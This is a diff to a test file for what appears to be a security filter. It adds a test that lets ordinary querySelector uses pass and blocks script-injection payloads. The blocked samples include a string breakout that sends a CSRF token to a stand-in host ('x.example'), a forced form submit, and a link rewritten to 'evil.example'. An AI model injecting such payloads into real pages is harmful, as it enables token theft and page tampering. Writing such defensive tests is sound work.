@@ -931,3 +931,21 @@ def test_jdbc_urls_that_run_code_are_refused(edge, value):
     "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1"])
 def test_ordinary_jdbc_urls_pass(edge, value):
     assert not rule_fired(edge, value, "java-jdbc"), value
+
+
+def test_an_element_found_by_a_selector_is_read_by_what_follows(edge):
+    """querySelector walks the tree as every snippet does; what counts is
+    what follows it: a write to the element, its HTML or a field's value
+    read, the form sent, the element clicked. A listener added, a class
+    toggled, or its text read in an error message is the page's own."""
+    check_passes(edge, [
+        'document.querySelector("#menu-toggle").addEventListener("click", () => {\n'
+        '  document.body.classList.toggle("menu-open");\n});',
+        "TypeError: null is not an object (evaluating "
+        "'document.querySelector(\".cart-count\").textContent')",
+        "const n = document.querySelectorAll('li').length;"])
+    check_blocked(edge, [
+        'document.querySelector("p").textContent="XSS"',
+        "';document.querySelector('form').submit();//",
+        "';fetch('//x.example/?'+document.querySelector('input[name=csrf]').value)//",
+        "document.querySelectorAll('a')[0].href='//evil.example'"])
